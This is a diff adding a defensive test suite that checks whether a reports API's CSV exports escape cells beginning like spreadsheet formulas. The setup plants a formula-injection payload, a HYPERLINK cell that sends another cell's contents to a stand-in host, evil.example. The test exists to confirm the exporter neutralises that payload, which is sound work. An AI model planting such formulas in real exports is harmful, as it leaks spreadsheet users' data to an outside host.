@@ -6,6 +6,7 @@ import { bearer, createAgreementVia, moveVia } from '../support/agreements.js';
 import { loadDemo } from '../support/demo.js';
 import { expectError } from '../support/errors.js';
 import type { Summary } from '../../domain/reports/summarize-period.js';
+import { parse } from 'csv-parse/sync';
 
 describe('reports: period summary and performance indices', function () {
   // the demo's dated histories are played through the real use cases first
@@ -139,4 +140,30 @@ describe('reports: period summary and performance indices', function () {
     const diplomat = (await loginAs(t, 'diplomat')).token;
     expectError(await request(t.app).post('/api/indices').set(bearer(diplomat)).send({ code: 'x_index', name: { id: 'X', en: 'X' }, fromYear: 2024 }), 403, 'forbidden');
   });
+});
+
+describe('reports: CSV exports and spreadsheet formulas', function () {
+  this.timeout(90_000);
+  let t: TestApp;
+  let admin: string;
+
+  before(async () => {
+    t = await createTestApp({ label: 'rep_formula' });
+    await loadDemo(t);
+    admin = (await loginAs(t, 'admin')).token;
+    // A code stored before imports checked codes (a register's "=HYPERLINK(...)" cell), as the review planted it.
+    await t.ctx.models.Agreement.updateOne({ code: 'MOU-MY-2022-01' }, { $set: { code: '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")' } });
+  });
+  after(async () => t.close());
+
+  for (const path of ['/api/reports/summary?from=2022-01-01&to=2022-12-31&format=csv', '/api/reports/annual?year=2022&format=csv&lang=en']) {
+    it(`when ${path.split('?')[0]} is exported as CSV with a code that starts like a formula, then the cell is text with a leading apostrophe, as in the agreements CSV`, async () => {
+      const res = await request(t.app).get(path).set(bearer(admin)).expect(200);
+      expect(res.headers['content-type']).to.match(/^text\/csv/);
+      const cells = parse(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat() as string[];
+      expect(cells.some((c) => c.includes('HYPERLINK')), 'the planted code is listed').to.equal(true);
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).to.deep.equal([]);
+      expect(cells.find((c) => c.includes('HYPERLINK'))).to.match(/^'=HYPERLINK/);
+    });
+  }
 });
